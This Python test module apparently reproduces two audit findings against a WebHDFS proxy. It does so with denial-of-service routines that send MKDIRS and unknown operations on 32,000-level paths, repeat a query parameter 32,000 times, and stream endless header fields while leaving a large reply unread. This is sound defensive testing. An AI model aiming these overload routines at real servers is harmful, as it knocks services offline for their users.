"""Findings 1 and 2: heads whose cost is out of proportion."""

import asyncio
from typing import Final

from tests.http_client import HttpClient, request, webhdfs
from tests.overload import places
from tests.overload.attack import Aim, Tally
from tests.overload.attacks.sending import HEAD_BYTES, again, keep_asking, padded

_EVERY_S: Final = 0.5
_FIELD: Final = b"X-Endless: " + b"x" * 8_000 + b"\r\n"
_MAX_MEBIBYTES: Final = 400

DEEP_PATH: Final = padded("", "/a", HEAD_BYTES - 100)
DEEP: Final = webhdfs("PUT", DEEP_PATH, "MKDIRS")
UNKNOWN: Final = webhdfs("PUT", DEEP_PATH, "NOBODYKNOWS")
PARAMETERS: Final = request("GET", padded("/webhdfs/v1/?op=LISTSTATUS", "&a", HEAD_BYTES - 100))


async def deep(aim: Aim, tally: Tally) -> None:
    """Send an MKDIRS 32,000 levels deep, repeatedly."""
    await keep_asking(aim, tally, again(DEEP), _EVERY_S)


async def unknown(aim: Aim, tally: Tally) -> None:
    """Send an unknown operation on a path of the same depth, repeatedly."""
    await keep_asking(aim, tally, again(UNKNOWN), _EVERY_S)


async def parameters(aim: Aim, tally: Tally) -> None:
    """Repeat one parameter 32,000 times."""
    await keep_asking(aim, tally, again(PARAMETERS), _EVERY_S)


async def endless_head(aim: Aim, tally: Tally) -> None:
    """Leave the reply to a long listing unread, and send endless header fields of a next request."""
    while tally.mebibytes < _MAX_MEBIBYTES:
        client = HttpClient(aim.proxy, places.ATTACKER, receive_buffer_bytes=4096)
        try:
            tally.connections += 1
            await client.send(webhdfs("GET", places.LARGE, "LISTSTATUS"))
            await asyncio.sleep(0.3)  # for the reply to start
            await client.send(
                b"GET /webhdfs/v1/?op=GETFILESTATUS&user.name=carol HTTP/1.1\r\nHost: nncache\r\n"
            )
            while tally.mebibytes < _MAX_MEBIBYTES:
                await client.send(_FIELD * 16)
                tally.mebibytes += 16 * len(_FIELD) / 2**20
            await asyncio.sleep(aim.seconds)
        except OSError:
            await asyncio.sleep(_EVERY_S)
        finally:
            client.hang_up()
